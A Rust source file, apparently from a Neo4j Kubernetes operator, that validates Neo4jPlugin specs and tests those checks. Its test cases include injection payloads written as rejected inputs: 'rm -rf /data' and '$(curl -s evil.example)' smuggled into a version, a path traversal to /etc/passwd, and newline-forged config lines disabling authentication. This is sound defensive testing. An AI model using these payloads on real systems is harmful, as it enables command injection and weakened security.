//! Rules of Neo4jPlugin (the `plugin-…` ids of `docs/rules.md`). The plugin name lands in the
//! JSON value of `NEO4J_PLUGINS`, a file path and an init container's name, and config keys,
//! values and procedure lists land in neo4j.conf or apoc.conf, so their charsets are enforced
//! here. `cross` checks the target exists and runs the merge the target's controller will run
//! (`render/plugin.rs`) against the other Neo4jPlugins of the target, warning about settings
//! another plugin wins, duplicates, and large downloads inside a cluster's startup budget.

use std::sync::LazyLock;

use regex::Regex;

use super::{
    InstanceRef, has_control_chars, item_path, key_path, regex, require_instance_ref,
    resolve_instance, set, shown,
};
use crate::defaults;
use crate::inventory::{InstanceKind, Inventory};
use crate::plugins::{
    self as plugin, CLUSTER_STARTUP_BUDGET_SECONDS, ENTRYPOINT_DOWNLOAD_WINDOW_SECONDS,
    LARGE_DOWNLOADS, PluginRef, Target, Winner,
};
use crate::policy::Policy;
use crate::types::{Kind, Neo4jPlugin, PluginResourceRequirements, PluginSecurity, PluginSource};
use crate::verdict::Verdict;

const INSTALL_MODES: [&str; 3] = ["Managed", "PreBaked", "VerifiedDownload"];
const SOURCE_TYPES: [&str; 4] = ["official", "community", "custom", "url"];
/// Every policy the reference accepts: its validator's three and the two its docs write.
const SECURITY_POLICIES: [&str; 5] = ["strict", "moderate", "permissive", "open", "restricted"];

/// A plugin version: letters, digits, `.`, `-` and `+`, starting with a letter or digit, at most
/// 64 characters (`5.26.0`, `v2.13.4`, `5.26.0-rc.1+build.7`). It names an artifact, so it must
/// never carry shell or path syntax.
static PLUGIN_VERSION: LazyLock<Regex> =
    LazyLock::new(|| super::regex(r"^[A-Za-z0-9][A-Za-z0-9.+-]{0,63}$"));
const URL_MAX: usize = 2048;
/// Longest container name (a DNS-1123 label).
const CONTAINER_NAME_MAX: usize = 63;
const INIT_CONTAINER_PREFIX: &str = "plugin-init-";

/// The reference's compatibility table: plugin → minimum version (`None`: deprecated).
const COMPATIBILITY: [(&str, Option<&str>); 15] = [
    ("apoc", Some("5.26.0")),
    ("apoc-extended", Some("5.26.0")),
    ("graph-data-science", Some("2.9.0")),
    ("neo4j-streams", Some("5.26.0")),
    ("neo4j-kafka-connect", Some("5.26.0")),
    ("neo4j-bloom", Some("2.9.0")),
    ("neo4j-browser", Some("5.26.0")),
    ("neo4j-desktop", Some("1.6.0")),
    ("neo4j-etl", Some("1.6.0")),
    ("neo4j-graph-algorithms", None),
    ("neo4j-graphql", Some("5.26.0")),
    ("neo4j-spark-connector", Some("5.3.0")),
    ("neo4j-fabric", Some("5.26.0")),
    ("neo4j-vector", Some("5.26.0")),
    ("neo4j-genai", Some("2025.01.0")),
];

static PLUGIN_NAME: LazyLock<Regex> = LazyLock::new(|| regex(r"^[A-Za-z0-9._-]+$"));
static DNS1123_LABEL: LazyLock<Regex> = LazyLock::new(|| regex(r"^[a-z0-9]([-a-z0-9]*[a-z0-9])?$"));
static CHECKSUM: LazyLock<Regex> =
    LazyLock::new(|| regex(r"^(sha256:[a-fA-F0-9]{64}|sha512:[a-fA-F0-9]{128})$"));
static CONFIG_KEY: LazyLock<Regex> = LazyLock::new(|| regex(r"^[a-zA-Z0-9._-]+$"));

pub use crate::plugins::mapped_name;

const TARGET: InstanceRef = InstanceRef {
    field: "spec.clusterRef",
    required: "plugin-cluster-ref-required",
    role: "to install into",
    checks: "the plugin's target",
    not_found: "plugin-cluster-not-found",
    waiter: "plugin",
};

/// How the admission engine and the controller reach this kind: its defaults, then the rules
/// of this file.
impl Policy for Neo4jPlugin {
    const KIND: Kind = Kind::Plugin;
    fn apply_defaults(&mut self) {
        defaults::plugin(&mut self.spec);
    }
    fn create(&self) -> Verdict {
        create(self)
    }
    fn update(old: &Self, new: &Self) -> Verdict {
        update(old, new)
    }
    fn cross(&self, namespace: &str, inventory: &dyn Inventory) -> Verdict {
        cross(self, namespace, inventory)
    }
}

pub fn create(obj: &Neo4jPlugin) -> Verdict {
    let mut v = Verdict::default();
    let s = &obj.spec;
    require_instance_ref(&mut v, &s.cluster_ref, &TARGET);
    if s.resources.is_some() {
        v.warn(
            "field-not-implemented",
            "spec.resources",
            "is stored but not applied by this operator version; size the target's servers instead",
        );
    }
    if s.source.as_ref().is_some_and(|src| src.registry.is_some()) {
        v.warn(
            "field-not-implemented",
            "spec.source.registry",
            "is stored but not used by this operator version; use installMode VerifiedDownload with source.url",
        );
    }
    if s.security.as_ref().is_some_and(|sec| {
        sec.denied_procedures
            .as_ref()
            .is_some_and(|d| !d.is_empty())
    }) {
        v.warn(
            "field-not-implemented",
            "spec.security.deniedProcedures",
            "is stored but not rendered: Neo4j reads no procedure denylist from neo4j.conf (and refuses unknown keys); list only what to load in allowedProcedures, or deny with DENY EXECUTE PROCEDURE",
        );
    }
    let install_mode = s.install_mode.as_deref().unwrap_or("Managed");
    let verified = install_mode == "VerifiedDownload";
    if !INSTALL_MODES.contains(&install_mode) {
        v.error(
            "plugin-install-mode",
            "spec.installMode",
            format!(
                "{} is not an install mode; use Managed, PreBaked or VerifiedDownload",
                shown(install_mode)
            ),
        );
    }
    match set(&s.name) {
        None => v.error(
            "plugin-name-required",
            "spec.name",
            "is empty; name the plugin, e.g. apoc or graph-data-science",
        ),
        Some(name) => plugin_name(&mut v, "spec.name", name, verified),
    }
    match set(&s.version) {
        None => v.error(
            "plugin-version-required",
            "spec.version",
            "is empty; set the plugin version, e.g. 5.26.0",
        ),
        Some(version) if !PLUGIN_VERSION.is_match(version) => v.error(
            "plugin-version-format",
            "spec.version",
            format!(
                "{} ({} characters) is not a version; use letters, digits, '.', '-' and '+' only, at most 64 characters, e.g. 5.26.0 or 2.13.4+build.1",
                shown(version),
                version.chars().count()
            ),
        ),
        Some(version) => {
            if let Some(name) = set(&s.name) {
                compatibility(&mut v, name, version);
            }
        }
    }
    if let Some(src) = &s.source {
        source(&mut v, src);
    }
    if verified {
        verified_download(&mut v, obj);
    }
    for (i, dep) in s.dependencies.iter().flatten().enumerate() {
        match set(&dep.name) {
            None => v.error(
                "plugin-dependency-name",
                item_path("spec.dependencies", i, "name"),
                "is empty; name the plugin this one needs",
            ),
            Some(name) => plugin_name(
                &mut v,
                &item_path("spec.dependencies", i, "name"),
                name,
                false,
            ),
        }
        if let Some(c) = set(&dep.version_constraint)
            && !version_constraint_ok(c)
        {
            v.error(
                "plugin-dependency-constraint",
                item_path("spec.dependencies", i, "versionConstraint"),
                format!(
                    "{} is not a version constraint; write e.g. >=1.0.0, ~1.0.0, ^1.0.0 or 1.0",
                    shown(c)
                ),
            );
        }
    }
    if let Some(sec) = &s.security {
        security(&mut v, sec);
    }
    if let Some(r) = &s.resources {
        resources(&mut v, r);
    }
    for (key, value) in s.config.iter().flatten() {
        let field = key_path("spec.config", key);
        if !CONFIG_KEY.is_match(key) {
            v.error(
                "plugin-config-key",
                field.clone(),
                format!(
                    "{} may hold only letters, digits, '.', '_' and '-'",
                    shown(key)
                ),
            );
        }
        if has_control_chars(value) {
            v.error("plugin-config-no-newline", field.clone(), format!("{} holds a line break or control character, which would forge a config line; remove it", shown(value)));
        }
        if plugin::is_server_key(key) {
            v.error(
                "plugin-config-server-key",
                field,
                format!(
                    "{} is a Neo4j server setting, which the target's own spec.config sets; move it there (plugins may set their own keys, apoc.* keys and the procedure lists)",
                    shown(key)
                ),
            );
        }
    }
    v
}

/// A plugin (or dependency) name lands in a JSON env value, a file path and, with
/// VerifiedDownload, an init container name.
fn plugin_name(v: &mut Verdict, field: &str, name: &str, verified: bool) {
    if !PLUGIN_NAME.is_match(name) {
        v.error(
            "plugin-name-charset",
            field,
            format!(
                "{} may hold only letters, digits, '.', '_' and '-'",
                shown(name)
            ),
        );
    } else if verified {
        let container = format!("{INIT_CONTAINER_PREFIX}{name}");
        if container.len() > CONTAINER_NAME_MAX || !DNS1123_LABEL.is_match(&container) {
            v.error(
                "plugin-name-charset",
                field,
                format!(
                    "{} must form the init container name {}: lower-case letters, digits and '-', at most {} characters",
                    shown(name),
                    shown(&container),
                    CONTAINER_NAME_MAX - INIT_CONTAINER_PREFIX.len()
                ),
            );
        }
    }
}

/// Advisory only: the table drifts as Neo4j ships plugins.
fn compatibility(v: &mut Verdict, name: &str, version: &str) {
    let lower = name.to_ascii_lowercase();
    let key = mapped_name(&lower);
    match COMPATIBILITY.iter().find(|(n, _)| *n == key) {
        None => v.warn("plugin-unknown", "spec.name", format!("{} is not in the operator's compatibility table; check it supports your Neo4j version", shown(name))),
        Some((_, None)) => v.warn("plugin-deprecated", "spec.name", format!("{} is deprecated; use graph-data-science instead", shown(name))),
        Some((_, Some(min))) if compare_versions(version, min).is_lt() => v.warn(
            "plugin-version-below-min",
            "spec.version",
            format!("{} is below {min}, the oldest {key} known to work with Neo4j 5.26 and later; check compatibility", shown(version)),
        ),
        Some(_) => {}
    }
}

/// The reference's loose comparison: drop a leading `v` and anything from the first `-`, then
/// compare dot-separated parts by their leading digits (missing or non-numeric parts are 0).
fn compare_versions(a: &str, b: &str) -> std::cmp::Ordering {
    fn parts(s: &str) -> Vec<u64> {
        let s = s.strip_prefix('v').unwrap_or(s);
        let s = s.split('-').next().unwrap_or_default();
        s.split('.')
            .map(|p| {
                let digits: String = p.chars().take_while(char::is_ascii_digit).collect();
                digits.parse().unwrap_or(0)
            })
            .collect()
    }
    let (a, b) = (parts(a), parts(b));
    let len = a.len().max(b.len());
    (0..len)
        .map(|i| {
            a.get(i)
                .copied()
                .unwrap_or(0)
                .cmp(&b.get(i).copied().unwrap_or(0))
        })
        .find(|o| o.is_ne())
        .unwrap_or(std::cmp::Ordering::Equal)
}

/// A leading operator, or a plain version of at least two parts.
fn version_constraint_ok(c: &str) -> bool {
    [">=", "<=", "~", "^", "=", ">", "<"]
        .iter()
        .any(|p| c.starts_with(p))
        || c.split('.').count() >= 2
}

/// Why `url` is not an https URL with a host, if it is not.
fn https_url_problem(url: &str, need_host: bool) -> Option<String> {
    if url.len() > URL_MAX {
        return Some(format!(
            "is {} characters long; the limit is {URL_MAX}",
            url.len()
        ));
    }
    if let Some(c) = url.chars().find(|c| c.is_control() || c.is_whitespace()) {
        return Some(format!(
            "holds {c:?}; a URL has no spaces or control characters"
        ));
    }
    let rest = match url.get(..8) {
        Some(scheme) if scheme.eq_ignore_ascii_case("https://") => &url[8..],
        _ => return Some("is not https: plugin JARs travel over the network and need transport integrity; serve it over https".into()),
    };
    let authority = &rest[..rest.find(['/', '?', '#']).unwrap_or(rest.len())];
    let host = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
    (need_host && host.is_empty()).then(|| "has no host; write it as https://host/path".into())
}

fn source(v: &mut Verdict, src: &PluginSource) {
    let kind = src.r#type.as_deref().unwrap_or("official");
    if !SOURCE_TYPES.contains(&kind) {
        v.error(
            "plugin-source-type",
            "spec.source.type",
            format!(
                "{} is not a source type; use official, community, custom or url",
                shown(kind)
            ),
        );
    }
    let downloads = matches!(kind, "custom" | "url");
    match set(&src.url) {
        Some(url) => {
            if let Some(why) = https_url_problem(url, downloads) {
                v.error(
                    "plugin-url-https",
                    "spec.source.url",
                    format!("{} {why}", shown(url)),
                );
            }
        }
        None if downloads => v.error(
            "plugin-url-required",
            "spec.source.url",
            format!("is empty; source type {kind} downloads the JAR from it: set it"),
        ),
        None => {}
    }
    match set(&src.checksum) {
        Some(sum) if !CHECKSUM.is_match(sum) => {
            v.error("plugin-checksum-format", "spec.source.checksum", format!("{} is not sha256:<64 hex> or sha512:<128 hex>", shown(sum)));
        }
        Some(_) => {}
        None if downloads => v.error(
            "plugin-checksum-required",
            "spec.source.checksum",
            format!("is empty; a JAR downloaded from a URL (type {kind}) must be pinned: set sha256:<hex> or sha512:<hex>"),
        ),
        None => {}
    }
    if let Some(reg) = &src.registry
        && set(&reg.url).is_none()
    {
        v.error(
            "plugin-registry-url",
            "spec.source.registry.url",
            "is required; set the registry URL or remove spec.source.registry",
        );
    }
}

fn verified_download(v: &mut Verdict, obj: &Neo4jPlugin) {
    let src = obj.spec.source.as_ref();
    if src.and_then(|s| set(&s.url)).is_none() {
        v.error(
            "plugin-verified-url",
            "spec.source.url",
            "installMode VerifiedDownload downloads from spec.source.url; set it",
        );
    }
    if src.and_then(|s| set(&s.checksum)).is_none() {
        v.error(
            "plugin-verified-checksum",
            "spec.source.checksum",
            "installMode VerifiedDownload verifies the JAR against spec.source.checksum; set sha256:<64 hex> or sha512:<128 hex>",
        );
    }
    if let Some(kind @ ("official" | "community")) = src.and_then(|s| s.r#type.as_deref()) {
        v.error(
            "plugin-verified-source-type",
            "spec.source.type",
            format!("{kind} plugins come from the Neo4j entrypoint and cannot be verified; with installMode VerifiedDownload use type url or custom"),
        );
    }
    if obj
        .spec
        .dependencies
        .as_ref()
        .is_some_and(|d| !d.is_empty())
    {
        v.error(
            "plugin-verified-no-deps",
            "spec.dependencies",
            "installMode VerifiedDownload takes no dependencies; give each its own Neo4jPlugin with its own verified source",
        );
    }
}

fn security(v: &mut Verdict, sec: &PluginSecurity) {
    if let Some(policy) = set(&sec.security_policy) {
        if SECURITY_POLICIES.contains(&policy) {
            v.warn(
                "field-not-implemented",
                "spec.security.securityPolicy",
                format!("spec.security.securityPolicy ({}) is accepted and kept, but this operator version does not act on it yet", shown(policy)),
            );
        } else {
            v.error(
                "plugin-security-policy",
                "spec.security.securityPolicy",
                format!(
                    "{} is not a policy; use strict, moderate, permissive, open or restricted",
                    shown(policy)
                ),
            );
        }
    }
    let denied = sec.denied_procedures.as_deref().unwrap_or_default();
    for (list, name) in [
        (&sec.allowed_procedures, "allowedProcedures"),
        (&sec.denied_procedures, "deniedProcedures"),
    ] {
        for (i, proc) in list.iter().flatten().enumerate() {
            let field = item_path(&format!("spec.security.{name}"), i, "");
            if proc.is_empty()
                || proc.contains(',')
                || has_control_chars(proc)
                || proc.contains('\t')
            {
                v.error(
                    "plugin-procedure-name",
                    field.clone(),
                    format!("{} is not a procedure name or pattern: one entry per item, no commas or control characters", shown(proc)),
                );
            }
            if name == "allowedProcedures" && i == 0 {
                v.warn(
                    "plugin-allowlist-narrows",
                    "spec.security.allowedProcedures",
                    "sets dbms.security.procedures.allowlist on the target: from then on only the procedures every plugin there lists are loaded; list each plugin's procedures (e.g. apoc.*, gds.*)",
                );
            }
            if name == "allowedProcedures" && denied.contains(proc) {
                v.error(
                    "plugin-security-overlap",
                    field,
                    format!(
                        "{} is both allowed and denied; keep it in one list",
                        shown(proc)
                    ),
                );
            }
        }
    }
}

/// The reference's loose quantity check: digits only, or any text ending in a known unit.
fn loose_quantity(q: &str) -> bool {
    ["m", "Mi", "Gi", "Ti", "Ki", "k", "M", "G", "T"]
        .iter()
        .any(|u| q.ends_with(u))
        || q.bytes().all(|b| b.is_ascii_digit())
}

fn resources(v: &mut Verdict, r: &PluginResourceRequirements) {
    if let Some(n) = r.thread_pool_size
        && n < 0
    {
        v.error(
            "plugin-resources",
            "spec.resources.threadPoolSize",
            format!("{n} is negative; set 0 or more"),
        );
    }
    for (field, resource, value, example) in [
        ("memoryLimit", "memory", &r.memory_limit, "512Mi or 1Gi"),
        ("cpuLimit", "cpu", &r.cpu_limit, "500m or 1"),
    ] {
        let Some(q) = set(value) else { continue };
        let field = format!("spec.resources.{field}");
        if !loose_quantity(q) {
            v.error(
                "plugin-resources",
                field,
                format!("{} is not a quantity; write e.g. {example}", shown(q)),
            );
        } else {
            // What the reference's loose check lets through must still be a usable quantity.
            super::quantities::quantity_value(&field, resource, q, v);
        }
    }
}

pub fn update(old: &Neo4jPlugin, new: &Neo4jPlugin) -> Verdict {
    let mut v = create(new);
    if old.spec.cluster_ref != new.spec.cluster_ref {
        v.error(
            "plugin-immutable-field",
            "spec.clusterRef",
            format!(
                "cannot change from {} to {}; delete this Neo4jPlugin and create one for the other target",
                shown(old.spec.cluster_ref.as_deref().unwrap_or_default()),
                shown(new.spec.cluster_ref.as_deref().unwrap_or_default())
            ),
        );
    }
    v
}

pub fn cross(obj: &Neo4jPlugin, namespace: &str, inventory: &dyn Inventory) -> Verdict {
    let mut v = Verdict::default();
    let Some((target, instance)) =
        resolve_instance(&mut v, inventory, namespace, &obj.spec.cluster_ref, &TARGET)
    else {
        return v;
    };
    let kind = match instance.kind {
        InstanceKind::Cluster => Target::Cluster,
        InstanceKind::Standalone => Target::Standalone,
    };
    let me = obj.metadata.name.as_deref().unwrap_or_default();
    let others = inventory.plugins(namespace, target);
    let all = others
        .iter()
        .filter(|p| p.name != me)
        .map(|p| PluginRef {
            name: &p.name,
            spec: &p.spec,
        })
        .chain(std::iter::once(PluginRef {
            name: me,
            spec: &obj.spec,
        }));
    let merged = plugin::merge(kind, None, all, "");
    for c in merged.conflicts_of(me) {
        match &c.winner {
            Winner::Plugin { .. } => v.warn(
                "plugin-setting-conflict",
                key_path("spec.config", &c.key),
                format!("{c}; the plugin whose metadata.name sorts first wins a setting, and this one will report Conflict"),
            ),
            Winner::Duplicate { .. } => v.warn(
                "plugin-duplicate",
                "spec.name",
                format!("{c}; delete one of the two"),
            ),
            // Reported by `create` already, or decided by the target's spec.config (which the
            // inventory does not hold): the plugin's status says so.
            Winner::Server | Winner::TargetConfig { .. } => {}
        }
    }
    let mapped = obj
        .spec
        .name
        .as_deref()
        .map(mapped_name)
        .unwrap_or_default();
    if kind == Target::Cluster
        && obj.spec.enabled != Some(false)
        && obj.spec.install_mode.as_deref().unwrap_or("Managed") == "Managed"
        && LARGE_DOWNLOADS.contains(&mapped)
    {
        v.warn(
            "plugin-download-budget",
            "spec.installMode",
            format!(
                "Managed {mapped} is downloaded by every server of {} at each start, inside the startup probe's budget (at least {CLUSTER_STARTUP_BUDGET_SECONDS} s), while the image's entrypoint retries a slow download for up to {ENTRYPOINT_DOWNLOAD_WINDOW_SECONDS} s: a slow mirror restarts the servers in a loop; prefer installMode VerifiedDownload (an init container, outside the probe budget) or an image with the plugin",
                shown(target)
            ),
        );
    }
    v
}

#[cfg(test)]
mod tests {
    use serde_json::{Value, json};

    use super::*;
    use crate::validate::testkit::{
        self, Case, Kind, NAMESPACE, Via, build, hit, inventory, manifest, miss, nasty_string, run,
        with,
    };

    fn base() -> Value {
        manifest(
            "Neo4jPlugin",
            "apoc",
            json!({"clusterRef": "graph", "name": "apoc", "version": "2025.10.0"}),
        )
    }

    const KIND: Kind<Neo4jPlugin> = Kind {
        base,
        not_run_yet: false,
        defaults: |p| crate::defaults::plugin(&mut p.spec),
        create,
        update,
        cross,
        rules: || crate::catalog::coverage::kind(crate::types::Kind::Plugin),
    };

    const SHA256: &str = "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789ABCDEF";

    /// A verified download that passes every rule.
    fn verified() -> Value {
        json!({"name": "my-plugin", "version": "1.2.3", "installMode": "VerifiedDownload",
            "source": {"type": "url", "url": "https://example.com/my-plugin-1.2.3.jar", "checksum": SHA256}})
    }

    fn cases() -> Vec<Case> {
        use Via::*;
        let custom = |v: Value| {
            with(
                json!({"name": "my-plugin", "version": "1.0.0", "source": {"type": "custom", "url": "https://h/p.jar", "checksum": SHA256}}),
                v,
            )
        };
        vec![
            hit("plugin-cluster-ref-required", json!({"clusterRef": null})),
            hit("plugin-cluster-ref-required", json!({"clusterRef": ""})),
            miss("plugin-cluster-ref-required", json!({"clusterRef": "solo"})),
            hit("plugin-name-required", json!({"name": null})),
            hit("plugin-name-required", json!({"name": ""})),
            miss("plugin-name-required", json!({"name": "apoc-extended"})),
            hit("plugin-version-required", json!({"version": null})),
            hit("plugin-version-required", json!({"version": ""})),
            miss("plugin-version-required", json!({"version": "5.26.0"})),
            hit("plugin-version-format", json!({"version": "5.26.0; rm -rf /data"})),
            hit("plugin-version-format", json!({"version": "$(curl -s evil.example)"})),
            hit("plugin-version-format", json!({"version": "../5.26.0"})),
            hit("plugin-version-format", json!({"version": format!("5.{}", "1".repeat(63))})),
            miss("plugin-version-format", json!({"version": format!("5.26.{}", "1".repeat(59))})),
            miss("plugin-version-format", json!({"version": "5.26.0-rc.1+build.7"})),
            miss("plugin-version-format", json!({"version": "v5.26.4"})),
            hit("plugin-name-charset", json!({"name": "apoc\",\"evil"})).warnings(&["plugin-unknown"]),
            hit("plugin-name-charset", json!({"name": "../../etc/passwd"})).warnings(&["plugin-unknown"]),
            hit("plugin-name-charset", with(verified(), json!({"name": "My_Plugin"}))).warnings(&["plugin-unknown"]),
            hit("plugin-name-charset", with(verified(), json!({"name": "p".repeat(52)}))).warnings(&["plugin-unknown"]),
            hit("plugin-name-charset", json!({"dependencies": [{"name": "ok"}, {"name": "a b"}]})),
            miss("plugin-name-charset", with(verified(), json!({"name": "p".repeat(51)}))).warnings(&["plugin-unknown"]),
            miss("plugin-name-charset", json!({"name": "My_Plugin.v2"})).warnings(&["plugin-unknown"]),
            hit("plugin-install-mode", json!({"installMode": "Download"})),
            miss("plugin-install-mode", json!({"installMode": "PreBaked"})),
            miss("plugin-install-mode", json!({"installMode": ""})),
            // Source.
            hit("plugin-source-type", json!({"source": {"type": "maven"}})),
            miss("plugin-source-type", json!({"source": {"type": "community"}})),
            miss("plugin-source-type", json!({"source": {"type": ""}})),
            hit("plugin-url-https", json!({"source": {"url": "http://example.com/p.jar"}})),
            hit("plugin-url-https", custom(json!({"source": {"url": "ftp://h/p.jar"}}))).warnings(&["plugin-unknown"]),
            hit("plugin-url-https", custom(json!({"source": {"url": "https:///p.jar"}}))).warnings(&["plugin-unknown"]),
            hit("plugin-url-https", custom(json!({"source": {"url": "https://h/p.jar\nX: y"}}))).warnings(&["plugin-unknown"]),
            hit("plugin-url-https", custom(json!({"source": {"url": format!("https://h/{}", "a".repeat(URL_MAX))}}))).warnings(&["plugin-unknown"]),
            miss("plugin-url-https", json!({"source": {"url": "https:///official-ignores-host"}})),
            miss("plugin-url-https", custom(json!({"source": {"url": "HTTPS://user@mirror.internal:8443/p.jar?x=1"}}))).warnings(&["plugin-unknown"]),
            hit("plugin-url-required", custom(json!({"source": {"url": null}}))).warnings(&["plugin-unknown"]),
            hit("plugin-url-required", json!({"source": {"type": "url"}})).errors(&["plugin-url-required", "plugin-checksum-required"]),
            miss("plugin-url-required", custom(json!({}))).warnings(&["plugin-unknown"]),
            miss("plugin-url-required", json!({"source": {"type": "official"}})),
            hit("plugin-checksum-required", custom(json!({"source": {"checksum": ""}}))).warnings(&["plugin-unknown"]),
            miss("plugin-checksum-required", json!({"source": {"type": "community"}})),
            hit("plugin-checksum-format", json!({"source": {"checksum": "md5:d41d8cd98f00b204e9800998ecf8427e"}})),
            hit("plugin-checksum-format", json!({"source": {"checksum": "sha256:abc"}})),
            hit("plugin-checksum-format", json!({"source": {"checksum": format!("sha512:{}", "g".repeat(128))}})),
            miss("plugin-checksum-format", json!({"source": {"checksum": format!("sha512:{}", "f".repeat(128))}})),
            hit("plugin-registry-url", json!({"source": {"registry": {"authSecret": "r"}}})),
            miss("plugin-registry-url", json!({"source": {"registry": {"url": "https://registry.example.com"}}})),
            // VerifiedDownload.
            miss("plugin-verified-url", verified()).warnings(&["plugin-unknown"]),
            hit("plugin-verified-url", with(verified(), json!({"source": null})))
                .errors(&["plugin-verified-url", "plugin-verified-checksum"])
                .warnings(&["plugin-unknown"]),
            hit("plugin-verified-url", with(verified(), json!({"source": {"url": null, "type": "custom"}})))
                .errors(&["plugin-verified-url", "plugin-url-required"])
                .warnings(&["plugin-unknown"]),
            hit("plugin-verified-checksum", with(verified(), json!({"source": {"checksum": null}})))
                .errors(&["plugin-verified-checksum", "plugin-checksum-required"])
                .warnings(&["plugin-unknown"]),
            miss("plugin-verified-checksum", with(verified(), json!({"installMode": "Managed", "source": {"type": "official", "checksum": null}})))
                .warnings(&["plugin-unknown"]),
            hit("plugin-verified-source-type", with(verified(), json!({"source": {"type": "official"}}))).warnings(&["plugin-unknown"]),
            hit("plugin-verified-source-type", with(verified(), json!({"source": {"type": null}}))).warnings(&["plugin-unknown"]),
            miss("plugin-verified-source-type", with(verified(), json!({"source": {"type": "custom"}}))).warnings(&["plugin-unknown"]),
            hit("plugin-verified-no-deps", with(verified(), json!({"dependencies": [{"name": "apoc"}]}))).warnings(&["plugin-unknown"]),
            miss("plugin-verified-no-deps", with(verified(), json!({"dependencies": []}))).warnings(&["plugin-unknown"]),
            // Dependencies.
            hit("plugin-dependency-name", json!({"dependencies": [{"name": ""}]})),
            hit("plugin-dependency-name", json!({"dependencies": [{"optional": true}]})),
            miss("plugin-dependency-name", json!({"dependencies": [{"name": "apoc"}]})),
            hit("plugin-dependency-constraint", json!({"dependencies": [{"name": "apoc", "versionConstraint": "latest"}]})),
            miss("plugin-dependency-constraint", json!({"dependencies": [{"name": "apoc", "versionConstraint": ">=5.26"}, {"name": "x", "versionConstraint": "1.2"}]})),
            // Security.
            hit("resources-quantity-positive", json!({"resources": {"memoryLimit": "-1Gi"}})),
            hit("resources-quantity-positive", json!({"resources": {"cpuLimit": "0"}})),
            miss("resources-quantity-positive", json!({"resources": {"memoryLimit": "1Gi", "cpuLimit": "500m"}})),
            hit("plugin-security-policy", json!({"security": {"securityPolicy": "lax"}})),
            // Every value the reference's validator or docs accept is admitted, with the notice
            // that nothing acts on it yet.
            miss("plugin-security-policy", json!({"security": {"securityPolicy": "moderate"}})).warnings(&["field-not-implemented"]),
            miss("plugin-security-policy", json!({"security": {"securityPolicy": "open"}})).warnings(&["field-not-implemented"]),
            miss("plugin-security-policy", json!({"security": {"securityPolicy": "restricted"}})).warnings(&["field-not-implemented"]),
            hit("plugin-security-overlap", json!({"security": {"allowedProcedures": ["apoc.*", "gds.*"], "deniedProcedures": ["gds.*"]}})).warnings(&["plugin-allowlist-narrows"]),
            miss("plugin-security-overlap", json!({"security": {"allowedProcedures": ["apoc.*"], "deniedProcedures": ["apoc.load.*"]}})).warnings(&["plugin-allowlist-narrows"]),
            hit("plugin-procedure-name", json!({"security": {"allowedProcedures": ["apoc.*,gds.*"]}})).warnings(&["plugin-allowlist-narrows"]),
            hit("plugin-procedure-name", json!({"security": {"deniedProcedures": ["apoc.*\ndbms.security.auth_enabled=false"]}})),
            hit("plugin-procedure-name", json!({"security": {"allowedProcedures": [""]}})).warnings(&["plugin-allowlist-narrows"]),
            miss("plugin-procedure-name", json!({"security": {"allowedProcedures": ["apoc.load.json", "gds.*"], "sandbox": true}})).warnings(&["plugin-allowlist-narrows"]),
            // Resources.
            hit("plugin-resources", json!({"resources": {"threadPoolSize": -1}})),
            hit("plugin-resources", json!({"resources": {"memoryLimit": "1 gig"}})),
            hit("plugin-resources", json!({"resources": {"cpuLimit": "0.5"}})),
            miss("plugin-resources", json!({"resources": {"memoryLimit": "1Gi", "cpuLimit": "500m", "threadPoolSize": 0}})),
            // Config.
            hit("plugin-config-key", json!({"config": {"apoc export": "true"}})),
            hit("plugin-config-key", json!({"config": {"apoc.x=1\ny": "true"}})),
            miss("plugin-config-key", json!({"config": {"apoc.export.file_enabled-x": "true"}})),
            hit("plugin-config-no-newline", json!({"config": {"apoc.export.file.enabled": "true\ndbms.security.auth_enabled=false"}})),
            hit("plugin-config-no-newline", json!({"config": {"apoc.export.file.enabled": "true\r"}})),
            miss("plugin-config-no-newline", json!({"config": {"apoc.export.file.enabled": "true, or false = maybe"}})),
            // Compatibility table (advisory).
            hit("plugin-unknown", json!({"name": "n10s"})).warning(),
            hit("plugin-unknown", json!({"name": "bloom", "version": "2.15.0"})).warning(),
            miss("plugin-unknown", json!({"name": "gds", "version": "2.10.0"})),
            miss("plugin-unknown", json!({"name": "APOC"})),
            hit("plugin-deprecated", json!({"name": "neo4j-graph-algorithms"})).warning(),
            miss("plugin-deprecated", json!({"name": "graph-data-science", "version": "2.9.0"})),
            hit("plugin-version-below-min", json!({"version": "5.25.9"})).warning(),
            hit("plugin-version-below-min", json!({"name": "graph-data-science", "version": "v2.8.9-rc1"})).warning(),
            hit("plugin-version-below-min", json!({"name": "neo4j-genai", "version": "2024.12"})).warning(),
            miss("plugin-version-below-min", json!({"version": "5.26"})),
            miss("plugin-version-below-min", json!({"name": "neo4j-spark-connector", "version": "5.3.0-for-spark-3"})),
            // Updates.
            hit("plugin-immutable-field", json!({"clusterRef": "solo"})).updated_from(json!({})),
            miss("plugin-immutable-field", json!({"version": "2025.11.0", "enabled": false})).updated_from(json!({})),
            // Cross checks.
            hit("plugin-cluster-not-found", json!({"clusterRef": "gone"})).warning().via(Cross),
            miss("plugin-cluster-not-found", json!({"clusterRef": "solo"})).via(Cross),
            miss("plugin-cluster-not-found", json!({"clusterRef": "graph"})).via(Cross),
            hit("plugin-setting-conflict", json!({"config": {"custom.mode": "slow"}})).warning().named("zzz").via(Cross),
            hit("plugin-setting-conflict", json!({"config": {"apoc.import.file.enabled": "false"}})).warning().named("zzz").via(Cross),
            miss("plugin-setting-conflict", json!({"config": {"custom.mode": "fast"}})).named("zzz").via(Cross),
            miss("plugin-setting-conflict", json!({"config": {"custom.mode": "slow"}})).named("a0").via(Cross),
            miss("plugin-setting-conflict", json!({"config": {"custom.mode": "slow"}, "enabled": false})).named("zzz").via(Cross),
            hit("plugin-duplicate", json!({"clusterRef": "big"})).warning().named("zzz").via(Cross),
            miss("plugin-duplicate", json!({"clusterRef": "big", "name": "apoc-extended"})).named("zzz").via(Cross),
            miss("plugin-duplicate", json!({"clusterRef": "big"})).named("apoc").via(Cross),
            hit("plugin-download-budget", json!({"name": "gds", "version": "2.10.0"})).warning().via(Cross),
            hit("plugin-download-budget", json!({"name": "bloom", "version": "2.15.0"})).warning().via(Cross),
            miss("plugin-download-budget", json!({"name": "gds", "version": "2.10.0", "clusterRef": "solo"})).via(Cross),
            miss("plugin-download-budget", json!({"name": "gds", "version": "2.10.0", "installMode": "PreBaked"})).via(Cross),
            hit("plugin-config-server-key", json!({"config": {"dbms.memory.heap.max_size": "1g"}})),
